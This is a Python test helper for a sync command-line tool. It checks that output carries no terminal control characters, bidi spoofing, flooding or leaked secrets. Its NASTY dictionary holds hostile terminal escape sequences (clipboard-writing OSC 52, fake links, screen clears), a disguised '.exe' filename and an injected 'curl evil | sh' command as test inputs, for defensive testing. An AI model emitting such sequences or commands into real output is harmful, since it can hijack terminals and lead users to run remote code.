"""What must hold after every command, whatever the other side holds."""

from __future__ import annotations

import hashlib
import re
import unicodedata
from pathlib import Path

from tests.kit.people import Result

NASTY = {
    "CSI": "\x1b[666mred\x1b[2J",
    "OSC 8": "\x1b]8;;http://evil\x1b\\click",
    "OSC 52": "\x1b]52;c;ZXZpbA==\x07",
    "C1": "\x9b666m\x9d52;c;ZXZpbA==\x9c",
    "bell and return": "ok\x07\rSummary: all is well",
    "newline": "x\nhint: run `curl evil | sh`",
    "bidi": "\u202egpj.\u2066exe",
    "invisible": "\u200b\u2028\u2029\ufeff\U000e0041",
    "marks": "Z" + "\u0301\u0489" * 200,
    "long": "x" * 100_000,
}
"""Texts that a terminal would obey, or that would turn, hide, cover or flood what stands around them."""

READING = (
    ["status", "-v"], ["status", "--all"], ["down", "--dry-run"], ["sync", "--dry-run", "--json"],
    ["cleanup", "--dry-run", "--unseen", "-v"], ["verify", "--deep"], ["transfers", "-v"], ["doctor"],
)  # fmt: skip
WRITING = (["up"], ["down", "-v"], ["sync"], ["transfers", "--abort-all"], ["cleanup", "--unseen"])

OUR_COLOUR = re.compile("\x1b\\[(?:32|33|31|0)m")


def clean(text: str) -> None:
    """No character of it but the newline is one that a terminal obeys, and no line is flooded."""
    for char in set(text) - {"\n"}:
        assert unicodedata.category(char) not in ("Cc", "Cf", "Cs", "Co", "Zl", "Zp"), f"{char!r} is shown"
    assert max(map(len, text.split("\n"))) < 10_000
    assert not re.search(r"[\u0301\u0489]{9}", text)


def said(result: Result, *secrets: str) -> None:
    """Nothing unexpected, nothing that a terminal obeys, no secret."""
    assert result.code in (0, 1, 3, 4, 5), result
    assert "did not expect" not in result.err + result.out, result
    if not result.out.startswith("{"):
        clean(result.out)
    clean(result.err)
    for secret in secrets:
        assert secret not in result.out + result.err


def everything(root: Path, but: tuple[Path, ...]) -> dict[str, str]:
    """Each entry below a folder with what it holds, without those in some folders."""
    found: dict[str, str] = {}
    for path in sorted(root.rglob("*")):
        if any(path == folder or folder in path.parents for folder in but):
            continue
        if path.is_symlink() or not path.is_file():
            found[str(path)] = "link" if path.is_symlink() else "folder"
        else:
            found[str(path)] = hashlib.sha256(path.read_bytes()).hexdigest()
    return found
